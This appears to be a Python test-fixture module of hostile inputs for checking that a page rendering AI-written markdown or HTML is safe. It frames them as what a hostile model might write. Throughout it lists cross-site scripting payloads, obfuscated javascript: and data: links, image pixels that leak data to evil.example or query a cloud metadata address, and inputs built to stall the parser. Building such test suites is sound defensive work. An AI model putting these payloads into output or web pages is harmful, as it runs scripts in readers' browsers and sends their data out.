"""What a hostile model might write, to run scripts in the page that shows it, or to send its reader's
data elsewhere, or to keep the page busy."""

HANDLERS = (
    "onerror onload onclick onmouseover onfocus onanimationstart ontoggle onpointerenter".split()
)
SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>go</button></form>",
    "<template><img src=x onerror=alert(1)></template>",
    "<video><source onerror=alert(1)></video>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</div></article></section><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href='javas&#99;ript:alert(1)'>x</a>",
    "<input autofocus onfocus=alert(1)>",
]
ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript\\:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://x/1",
    "//evil.example/x",
    "/api/delete",
    "?x",
    "#x",
    "https://evil.example/'onmouseover='alert(1)",
    'https://evil.example/"onmouseover="alert(1)',
    "ingot:x",
]
PLACES = [
    "{}",
    "# {}",
    "- {}",
    "> {}",
    "**{}**",
    "`{}`",
    "| a | b |\n|---|---|\n| {} | x |",
    "```html\n{}\n```",
    "```{}\nx\n```",
    "1. x\n\n   {}",
]
LINKS = [
    "[x]({})",
    "![x]({})",
    "[![x]({0})]({0})",
    "<{}>",
    '[x]({} "title")',
    "[x](<{}>)",
    "[{}](https://good.example)",
    "[x]: {}\n\n[x]",
    "| a | b |\n|---|---|\n| [x]({}) | x |",
]
FETCHES = [
    "![pixel](https://evil.example/leak?q=secret)",
    "![pixel](http://169.254.169.254/latest)",
    "<img src='https://evil.example/p.png'>",
    "[![](https://evil.example/p.png)](https://evil.example)",
    "<div style=\"background:url('https://evil.example/p.png')\">",
]
# Long ones: they must cost no more than their length.
HEAVY = [
    "*" * 20000,
    "_" * 20000 + "a",
    "**a" * 7000,
    "[" * 20000,
    "[a](" * 5000,
    "![" * 10000,
    "`" * 20000,
    "".join("`" * n + " " for n in range(1, 150)),
    "> " * 5000 + "x",
    "- " * 5000 + "x",
    "\n".join("  " * n + "- x" for n in range(200)),
    "|" * 20000 + "\n" + "|-" * 10000,
    "<" * 20000,
    "https://" * 3000,
    "a\n" * 10000,
    "```\n" * 5000,
    "~~" * 10000,
    "\\" * 20000,
    "__proto__ constructor toString " * 500,
    "\u202e\u2066" * 5000,
    "```js\n" + "/*" * 20000 + "\n```",
    "```js\n" + '"\\' * 20000 + "\n```",
    "(" * 5000 + "[a](" + "(" * 5000,
]

INJECTIONS = [
    *SCRIPTS,
    *(place.format(script) for place in PLACES[1:] for script in SCRIPTS[:8]),
    *(f"<img src=x {handler}=alert(1)>" for handler in HANDLERS),
    *(link.format(address) for link in LINKS for address in ADDRESSES),
    *FETCHES,
    *HEAVY,
]
# One message that has them all, and a few alone.
SMALL = [
    "\n\n".join([*SCRIPTS, *FETCHES]),
    "\n\n".join(place.format(SCRIPTS[2]) for place in PLACES),
    "\n\n".join(link.format(address) for link in LINKS for address in ADDRESSES),
    HEAVY[0],
    HEAVY[4],
    HEAVY[8],
]
